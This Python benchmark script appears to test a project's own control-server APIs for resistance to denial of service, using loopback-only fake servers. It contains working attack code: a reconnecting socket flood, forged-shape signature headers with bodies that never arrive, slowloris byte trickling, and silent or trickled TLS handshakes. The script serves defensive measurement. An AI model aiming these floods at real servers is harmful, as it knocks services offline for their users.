"""Denial-of-service proofs of concept against MD's and P's control APIs, measured (not a
timed test): how many genuine, signed calls are answered while an outsider without the key
attacks. Real control servers on loopback (tests/support/control_fakes.py: MD's MdControlServer over
a fake room table, P's PrefillControlServer); the attacker's sockets come from other
loopback addresses (127.0.0.2, ...) than the router's calls (127.0.0.1), as they would from
other hosts. Run it on two checkouts to compare code before and after a change.

* ``starvation-md``: 4 sockets send a POST head announcing 16 MiB with a signature header of
  the right shape and a fresh timestamp (anyone can write one), then no body; each is
  re-opened when the server cuts it. Meanwhile 75 genuine registrations (signed).
* ``starvation-p``: the same on P's API: 64 sockets announcing its 64 KiB cap; 75 genuine
  WAN destinations.
* ``slowloris``: MD's server with its connection cap lowered to 64; 70 sockets trickle a
  request head (a byte every 0.5 s), re-opened when cut. Meanwhile 22 signed calls.
* ``tls-flood``: the same server over mutual TLS; 70 sockets connect and stay silent (no
  ClientHello), re-opened when cut. Meanwhile 27 signed calls, each on a new connection.
* ``tls-handshake``: how long the TLS server holds a connection that is silent, and one
  that trickles a ClientHello (a byte every 0.5 s), before cutting it.

    python -m benchmarks.bench_control_dos                 # ~2 min
    python -m benchmarks.bench_control_dos --scenario slowloris --sources 6 --trust-router
"""

from __future__ import annotations

import argparse
import asyncio
import json
import select
import socket
import ssl
import tempfile
import threading
import time
from pathlib import Path

import aiohttp
from tqdm import tqdm

from sglang_pdd.control import auth as control_auth
from sglang_pdd.control.auth import ControlSigner
from sglang_pdd.launcher.http import call_json
from sglang_pdd.router.backends.clients import MainControl
from sglang_pdd.protocol import ReleaseRequest
from tests.support import control_fakes as fakes

KEY = fakes.KEY
ATTACKERS = [f"127.0.0.{i}" for i in range(2, 10)]


def forged_header() -> bytes:
    """A signature header of the current format's shape with a fresh timestamp: no key needed."""
    ts = int(time.time())
    if getattr(control_auth, "SIGNATURE_VERSION", 1) >= 2:
        return b"Authorization: PDD-HMAC-SHA256 v=2,ts=%d,nonce=%s,body=%s,sig=%s\r\n" % (ts, b"0" * 32, b"0" * 64,
                                                                                        b"0" * 64)
    return b"Authorization: PDD-HMAC-SHA256 ts=%d,nonce=%s,sig=%s\r\n" % (ts, b"0" * 32, b"0" * 64)


class Flood:
    """``n`` attacker sockets to ``address``, from the ATTACKERS' addresses in turn, each
    sending ``opening()`` then, every ``trickle_s``, ``trickle`` (nothing if empty); a socket
    the server closes is opened again at once. ``wrap``: e.g. a TLS client context's."""

    def __init__(self, address, n: int, opening, trickle: bytes = b"", trickle_s: float = 0.5, sources=1):
        self.address, self.n, self.opening, self.trickle, self.trickle_s = address, n, opening, trickle, trickle_s
        self.sources = ATTACKERS[:sources]
        self.reconnects = 0
        self.opened = 0  # sockets opened so far (the first round: the attack is in place once it is n)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        deadline = time.monotonic() + 60
        while self.opened < self.n and time.monotonic() < deadline:  # a server accepts slowly under load
            time.sleep(0.05)
        time.sleep(0.5)
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(10)

    def _open(self, i: int):
        try:
            s = socket.create_connection(self.address, timeout=2, source_address=(self.sources[i % len(self.sources)], 0))
            s.sendall(self.opening())
            s.setblocking(False)
            return s
        except OSError:
            return None
        finally:
            self.opened += 1

    def _run(self) -> None:
        socks = {i: self._open(i) for i in range(self.n)}
        next_trickle = time.monotonic() + self.trickle_s
        while not self._stop.is_set():
            live = [s for s in socks.values() if s is not None]
            readable = select.select(live, [], [], 0.05)[0] if live else []
            for i, s in list(socks.items()):
                if s is None or s in readable:
                    if s is not None:
                        try:
                            if s.recv(65536):
                                continue  # an answer (e.g. 503) before the close: read on
                        except BlockingIOError:
                            continue
                        except OSError:
                            pass
                        s.close()
                    socks[i] = self._open(i)
                    self.reconnects += 1
            if self.trickle and time.monotonic() >= next_trickle:
                next_trickle += self.trickle_s
                for s in socks.values():
                    try:
                        s is not None and s.send(self.trickle)
                    except OSError:
                        pass
        for s in socks.values():
            if s is not None:
                s.close()


def _count(calls, what: str) -> dict:
    answered, statuses = 0, {}
    for call in tqdm(calls, desc=what, leave=False):
        try:
            status = call()
        except Exception as e:  # noqa: BLE001: a dropped connection is an unanswered call
            status = type(e).__name__
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        answered += status == 200
        time.sleep(0.1)
    return {"answered": answered, "of": len(calls), "statuses": statuses}


def starvation_md(args) -> dict:
    md = fakes.MdControl()
    host, port = md.server.address
    head = lambda: (b"POST /pdd/rooms HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n%s\r\n"  # noqa: E731
                    % (host.encode(), port, 16 << 20, forged_header()))
    rooms = iter(range(1, 10 ** 9))

    def register():
        room = next(rooms)
        status, _ = call_json("POST", md.url + "/pdd/rooms", {"room": room, "token_ids": [1, 2, 3]}, key=KEY,
                              timeout=5)
        if status == 200:
            md.runtime.release(ReleaseRequest(room))
        return status

    try:
        with Flood((host, port), 4, head) as flood:
            out = _count([register] * args.calls, "starvation-md")
        out["attacker_reconnects"] = flood.reconnects
        return out
    finally:
        md.close()


def starvation_p(args) -> dict:
    p = fakes.PControl()
    host, port = p.server.address
    head = lambda: (b"POST /pdd/wan_destinations HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n%s\r\n"  # noqa: E731
                    % (host.encode(), port, 64 << 10, forged_header()))
    rooms = iter(range(1, 10 ** 9))

    def destination():
        room = next(rooms)
        dest = {"bootstrap_room": room, "md_room": room, "wan_peer": "%s:%d" % fakes.WAN_PEER, "md_prefix_len": 0}
        return call_json("POST", p.url + "/pdd/wan_destinations", dest, key=KEY, timeout=5)[0]

    try:
        with Flood((host, port), 64, head) as flood:
            out = _count([destination] * args.calls, "starvation-p")
        out["attacker_reconnects"] = flood.reconnects
        return out
    finally:
        p.close()


def _trusted(args) -> dict:
    """The router's address allow-listed (--pdd-control-trusted-sources), if asked."""
    return {"trusted_sources": "127.0.0.1"} if args.trust_router else {}


def slowloris(args) -> dict:
    md = fakes.MdControl(max_connections=64, **_trusted(args))
    host, port = md.server.address
    head = lambda: b"GET /pdd/stats HTTP/1.1\r\nHost: %s:%d\r\nX-Slow: " % (host.encode(), port)  # noqa: E731
    try:
        with Flood((host, port), 70, head, trickle=b"x", sources=args.sources) as flood:
            out = _count([lambda: call_json("GET", md.url + "/pdd/stats", key=KEY, timeout=5)[0]] * 22, "slowloris")
        out["attacker_reconnects"] = flood.reconnects
        return out
    finally:
        md.close()


def _pki(d: Path):
    from tests.support import pki

    pki.make_ca(d, "ca")
    return (str(d / "ca.pem"), pki.make_leaf(d, "server", "ca", "IP:127.0.0.1"),
            pki.make_leaf(d, "router", "ca", "DNS:router"))


def tls_flood(args) -> dict:
    from sglang_pdd.kv_channel.tls import control_tls_context

    with tempfile.TemporaryDirectory() as d:
        ca, server, router = _pki(Path(d))
        md = fakes.MdControl(max_connections=64, ssl_context=control_tls_context(*server, ca, server_side=True),
                             **_trusted(args))
        client = control_tls_context(*router, ca, server_side=False)
        host, port = md.server.address

        def call():
            async def one():
                async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(force_close=True)) as s:
                    stats = await MainControl(s, md.url, signer=ControlSigner(KEY), tls=client).stats()
                    return 200 if stats is not None else "no answer"
            return asyncio.run(asyncio.wait_for(one(), 15))

        try:
            with Flood((host, port), 70, lambda: b"", sources=args.sources) as flood:
                out = _count([call] * 27, "tls-flood")
            out["attacker_reconnects"] = flood.reconnects
            return out
        finally:
            md.close()


def tls_handshake(args) -> dict:
    """Seconds until the server cuts a silent client, and a client trickling a ClientHello."""
    from sglang_pdd.kv_channel.tls import control_tls_context

    with tempfile.TemporaryDirectory() as d:
        ca, server, router = _pki(Path(d))
        md = fakes.MdControl(ssl_context=control_tls_context(*server, ca, server_side=True))
        address = md.server.address
        # a real ClientHello, captured from a TLS client into a memory BIO
        ctx = ssl.create_default_context()
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(incoming, outgoing, server_hostname="x")
        try:
            obj.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = outgoing.read()

        def held(trickle: bool, limit_s: float = 120.0) -> float:
            s = socket.create_connection(address, source_address=(ATTACKERS[0], 0))
            start = time.monotonic()
            s.setblocking(False)
            sent = 0
            try:
                while time.monotonic() - start < limit_s:
                    if trickle and sent < len(hello) - 1:  # never the last byte: the hello stays incomplete
                        s.send(hello[sent:sent + 1])
                        sent += 1
                    if select.select([s], [], [], 0.5)[0]:
                        try:
                            if not s.recv(4096):
                                break
                        except OSError:
                            break
                return time.monotonic() - start
            finally:
                s.close()

        try:
            return {"silent_client_cut_after_s": round(held(False), 1),
                    "trickling_client_cut_after_s": round(held(True), 1), "client_hello_bytes": len(hello)}
        finally:
            md.close()


SCENARIOS = {"starvation-md": starvation_md, "starvation-p": starvation_p, "slowloris": slowloris,
             "tls-flood": tls_flood, "tls-handshake": tls_handshake}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--scenario", choices=["all", *SCENARIOS], default="all")
    ap.add_argument("--calls", type=int, default=75, help="genuine calls in the starvation scenarios")
    ap.add_argument("--sources", type=int, default=1, help="attacker addresses in slowloris and tls-flood")
    ap.add_argument("--trust-router", action="store_true",
                    help="allow-list the router's address on the server (--pdd-control-trusted-sources)")
    args = ap.parse_args()
    names = list(SCENARIOS) if args.scenario == "all" else [args.scenario]
    results = {}
    for name in names:
        results[name] = SCENARIOS[name](args)
        print(name, json.dumps(results[name]), flush=True)


if __name__ == "__main__":
    main()
